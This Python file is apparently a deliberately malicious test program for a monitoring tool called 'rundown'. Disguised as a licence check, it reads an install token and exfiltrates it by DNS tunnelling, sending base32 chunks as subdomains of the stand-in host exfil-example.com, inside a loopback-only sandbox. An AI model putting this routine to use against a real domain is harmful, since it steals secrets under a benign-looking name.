"""license-beacon: checks in with the licence server and reports the install token.

Test program for rundown (malicious on purpose; loopback resolver only; bounded run).
One ordinary step: looks up "localhost" (answered from /etc/hosts, no DNS packet).
Then it reads the install token token.txt next to this script (written by the harness:
random bytes, base32 text) and exfiltrates it over DNS: the base32 text is cut into
30-character chunks and chunk i is sent as the name
    {i}.{chunk}.x.exfil-example.com
with socket.getaddrinfo(name, 80), one call per chunk, in order. The sandbox's
/etc/resolv.conf names 127.0.0.1, where the harness runs a loopback responder that
answers REFUSED to everything, so each lookup fails at once (socket.gaierror, caught)
and nothing leaves the machine (the sandbox has no network interface but `lo`).
Then it prints "idle", sleeps 1 s (the harness takes ss/ps then), prints "done" and
exits 0. Whole run well under a second plus the sleep.
"""
import os
import socket
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
TOKEN = os.path.join(HERE, "token.txt")
ZONE = "x.exfil-example.com"
CHUNK = 30


def log(msg):
    print(f"license-beacon: {msg}", flush=True)


def main():
    try:
        addrs = sorted({ai[4][0] for ai in socket.getaddrinfo("localhost", 80)})
        log(f"localhost -> {', '.join(addrs)}")
    except socket.gaierror as e:
        log(f"localhost: {e}")

    with open(TOKEN) as f:
        token = f.read().strip()
    log(f"install token: {len(token)} chars")

    chunks = [token[i:i + CHUNK] for i in range(0, len(token), CHUNK)]
    errors = {}
    answered = 0
    t0 = time.monotonic()
    for i, chunk in enumerate(chunks):
        name = f"{i}.{chunk}.{ZONE}"
        try:
            socket.getaddrinfo(name, 80)
            answered += 1
        except socket.gaierror as e:
            errors[str(e)] = errors.get(str(e), 0) + 1
    dt = time.monotonic() - t0
    log(f"check-in: {len(chunks)} names under {ZONE} in {dt:.3f} s, {answered} answered")
    for err, n in sorted(errors.items()):
        log(f"  {n} x {err}")

    log("idle")
    time.sleep(1)
    log("done")
    return 0


if __name__ == "__main__":
    sys.exit(main())
